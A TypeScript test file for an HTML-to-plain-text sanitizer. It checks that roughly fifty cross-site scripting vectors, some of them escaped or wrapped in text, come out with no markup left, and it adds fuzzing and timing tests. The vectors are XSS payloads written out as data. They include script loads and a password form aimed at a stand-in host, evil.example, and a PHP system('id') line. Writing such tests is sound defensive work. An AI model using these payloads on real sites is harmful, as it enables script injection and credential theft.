import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { longestText, plainParagraphs, plainText } from '../../src/host/plainText.ts'

const vectors = [
  '<script>alert(1)</script>',
  '<script src=//evil.example/x.js></script>',
  '<ScRiPt>alert(1)</sCrIpT >',
  '<script>alert(1)',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="alert(1)"',
  '<img/src=x/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<img src=x onerror=alert(1)>">',
  '<a href="javascript:alert(1)">press</a>',
  '<a href=" &#106;avascript:alert(1)">press</a>',
  '<body onload=alert(1)>',
  '<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></math>',
  '<details open ontoggle=alert(1)>x</details>',
  '<style>@import url(//evil.example)</style>',
  '<link rel=stylesheet href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href=//evil.example>',
  '<form action=//evil.example><input name=password></form>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<video><source onerror=alert(1)></video>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--<img src="--><img src=x onerror=alert(1)>">',
  '<!-- never closed <img src=x onerror=alert(1)>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php system("id") ?>',
  '<!DOCTYPE html><html><body>critical error</body></html>',
  '<<script>script>alert(1)<</script>/script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<<b>b>img src=x onerror=alert(1)>',
  '"><img src=x onerror=alert(1)>',
  "'-alert(1)-'",
  '</title><script>alert(1)</script>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<\u200bscript>alert(1)</script>',
  '<\u0000script>alert(1)</script>',
  '\u202egnp.<script>alert(1)</script>',
  '<table background="javascript:alert(1)">',
  '<x contenteditable onblur=alert(1)>lose focus',
  '<button formaction=javascript:alert(1)>x',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<keygen autofocus onfocus=alert(1)>',
  '<p style="background:url(javascript:alert(1))">',
  '<div data-x="<script>alert(1)</script>">',
]

const escaped = (text: string) => text.replace(/[&<>"']/g, (each) => `&#${each.charCodeAt(0)};`)
const named = (text: string) => text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;')

const wrappings: Record<string, (vector: string) => string> = {
  'as it is': (vector) => vector,
  'in a sentence': (vector) => `The user ${vector} is unknown.`,
  'in markup': (vector) => `<strong>Error:</strong> ${vector} <em>again</em>`,
  escaped,
  'escaped by name': named,
  'escaped twice': (vector) => named(named(vector)),
}

const payloads = Object.entries(wrappings).flatMap(([name, wrap]) =>
  vectors.map((vector): [string, string] => [`${name}: ${vector}`, wrap(vector)]),
)

const loneHalf = /\p{Cs}/u

/** What holds for every text that is shown. */
const fitToShow = (text: string) => {
  expect(text).not.toMatch(/<[a-z/!?]/i)
  expect(text).not.toMatch(/[\p{Cc}\u2028\u2029\u200b\u200e\u200f\u202a-\u202e\u2060-\u2069\ufeff]/u)
  expect(Array.from(text).length).toBeLessThanOrEqual(longestText)
  expect(text).toBe(text.trim())
  expect(text).not.toMatch(loneHalf)
}

describe('markup', () => {
  test('there are 300 payloads', () => expect(payloads.length).toBe(300))

  test.each(payloads)('%s', (_name, payload) => {
    fitToShow(plainText(payload))
    for (const paragraph of plainParagraphs(payload)) expect(paragraph).not.toMatch(/<[a-z/!?]/i)
    // Held by a real parser too: what is shown makes no element, even if somebody put it into a page by mistake.
    expect(plainText(plainText(payload))).not.toMatch(/<[a-z/!?]/i)
  })
})

test('any text at all comes out fit to be shown', () => {
  const letters = fc.constantFrom(
    '<',
    '>',
    '/',
    '!',
    '&',
    '#',
    'x',
    ';',
    '"',
    "'",
    'a',
    'script',
    'lt',
    '--',
    ' ',
    '\n',
    '\u202e',
    '\ud800',
    '3',
    '60',
  )
  fc.assert(
    fc.property(
      fc.oneof(
        fc.string({ unit: 'binary' }),
        fc.array(letters, { maxLength: 60 }).map((all) => all.join('')),
      ),
      (text) => {
        // A lone half of a pair that the server sent is not ours to mend.
        if (!loneHalf.test(text)) fitToShow(plainText(text))
        else expect(plainText(text)).not.toMatch(/<[a-z/!?]/i)
      },
    ),
    { numRuns: 5_000 },
  )
})

describe('what people read', () => {
  test.each([
    [
      '<strong>Error:</strong> The password you entered for the username <strong>member</strong> is incorrect. <a href="/wp-login.php?action=lostpassword">Lost your password?</a>',
      'Error: The password you entered for the username member is incorrect. Lost your password?',
    ],
    ['Your card was declined.', 'Your card was declined.'],
    ['AT&amp;T &#8211; News &#x26; Views', 'AT&T – News & Views'],
    ['5 < 6 and 7 > 3', '5 < 6 and 7 > 3'],
    [
      'Error executing query\n\n#0 /var/www/html/wp-content/plugins/x.php(12): boom()\n#1 {main}',
      'Error executing query',
    ],
    ['<p>First.</p><p>Second.</p>', 'First.'],
    ['<br><br>  After two breaks  ', 'After two breaks'],
    ['  many \t spaces  ', 'many spaces'],
    ['&unknown; &#0; &#xD800; &#99999999;', '&unknown; &#99999999;'],
    ['Größe & Äpfel 👩‍👩‍👧 100 %', 'Größe & Äpfel 👩‍👩‍👧 100 %'],
    ['', ''],
    ['<b></b>', ''],
  ])('%s', (sent, shown) => expect(plainText(sent)).toBe(shown))

  test.each([[undefined], [null], [7], [true], [{}], [['text']]])('%s is no text', (value) => {
    expect(plainText(value)).toBe('')
    expect(plainParagraphs(value)).toEqual([])
  })

  test('a long text ends in an ellipsis, and no character is cut in half', () => {
    const shown = plainText('👍'.repeat(400))
    expect(Array.from(shown).length).toBe(longestText)
    expect(shown).toBe(`${'👍'.repeat(longestText - 1)}…`)
    expect(plainText('a'.repeat(longestText))).toBe('a'.repeat(longestText))
  })

  test('paragraphs are kept apart', () => {
    expect(plainParagraphs('<p>Yes: on <b>Roku</b>.</p>\n<ul><li>One</li><li>Two</li></ul>')).toEqual([
      'Yes: on Roku.',
      'One',
      'Two',
    ])
  })

  test.each([
    ['five megabytes of text', 'x'.repeat(5_000_000)],
    ['five megabytes of open tags', '<a '.repeat(1_700_000)],
    ['five megabytes of nested tags', '<<b>'.repeat(1_250_000)],
    ['five megabytes of ampersands', '&'.repeat(5_000_000)],
    ['five megabytes of comments', '<!--'.repeat(1_250_000)],
    ['five megabytes of scripts', '<script>'.repeat(625_000)],
  ])('%s take no time', (_name, text) => {
    const start = performance.now()
    plainText(text)
    plainParagraphs(text)
    expect(performance.now() - start).toBeLessThan(500)
  })
})
